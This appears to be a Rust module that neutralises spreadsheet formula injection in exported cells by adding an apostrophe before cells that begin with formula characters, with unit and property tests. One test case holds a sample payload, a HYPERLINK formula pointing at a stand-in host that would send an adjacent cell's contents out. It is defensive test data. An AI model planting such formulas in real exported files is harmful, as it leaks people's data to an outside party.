//! Cells that a spreadsheet would take for a formula: `=HYPERLINK(…)` in a list that somebody opens may send away what stands beside it.
//!
//! A cell goes out with an apostrophe before such a beginning, which every spreadsheet shows as text. Reading takes one apostrophe away
//! again, so that a cell comes back as it was; apostrophes that stood there before get one more and come back too.

use std::borrow::Cow;

/// The signs with which a formula may begin, in either width; a tab or line break before it is passed over by some programs.
const BEGINNINGS: [char; 11] = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];

/// Whether the text begins a formula, behind any number of apostrophes.
fn begins_formula(text: &str) -> bool {
    text.trim_start_matches('\'').starts_with(BEGINNINGS)
}

/// The cell as it goes out.
#[must_use]
pub fn neutral(text: &str) -> Cow<'_, str> {
    if begins_formula(text) { Cow::Owned(format!("'{text}")) } else { Cow::Borrowed(text) }
}

/// The cell as it was written.
#[must_use]
pub fn written(text: &str) -> &str {
    text.strip_prefix('\'').filter(|rest| begins_formula(rest)).unwrap_or(text)
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;
    use rstest::rstest;

    use super::*;

    #[rstest]
    #[case(r#"=HYPERLINK("http://192.0.2.1/?"&A1,"x")"#)]
    #[case("+8613800005678")]
    #[case("-1")]
    #[case("@SUM(A1)")]
    #[case("\t=1")]
    #[case("＝1")]
    #[case("'=1")]
    fn a_formula_goes_out_as_text_and_comes_back(#[case] text: &str) {
        let out = neutral(text);
        assert!(out.starts_with('\''));
        assert_eq!(written(&out), text);
    }

    #[rstest]
    #[case("渝州宾馆")]
    #[case("'quoted'")]
    #[case("a=1")]
    #[case("")]
    fn other_cells_stay_as_they_are(#[case] text: &str) {
        assert_eq!((&*neutral(text), written(text)), (text, text));
    }

    proptest! {
        #[test]
        fn every_cell_comes_back_and_none_begins_a_formula(text in "['=+@\\-\t\r＝]{0,3}\\PC{0,10}") {
            let out = neutral(&text);
            prop_assert_eq!(written(&out), &text);
            prop_assert!(!out.starts_with(BEGINNINGS));
        }
    }
}
